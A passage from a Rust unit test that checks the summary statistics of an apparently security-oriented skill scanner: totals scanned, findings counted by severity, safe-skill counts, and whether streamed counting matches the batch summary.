            vec![report(vec![finding(Severity::High)]), report(Vec::new())],
            Vec::new(),
        );
        assert_eq!(reports.summary.total_skills_scanned, 2);
        assert_eq!(reports.summary.total_findings, 1);
        assert_eq!(reports.summary.safe_skills, 1);
        assert_eq!(reports.summary.findings_by_severity["high"], 1);
        assert_eq!(reports.summary.findings_by_severity["critical"], 0);
        let mut counted = Summary::new();
        for report in &reports.results {
            counted.count(report);
        }
        assert_eq!(
            counted, reports.summary,
            "counted one by one as a stream counts"
        );
        assert_eq!(
            Summary::new().findings_by_severity.len(),
            Severity::ALL.len()
        );
    }
}
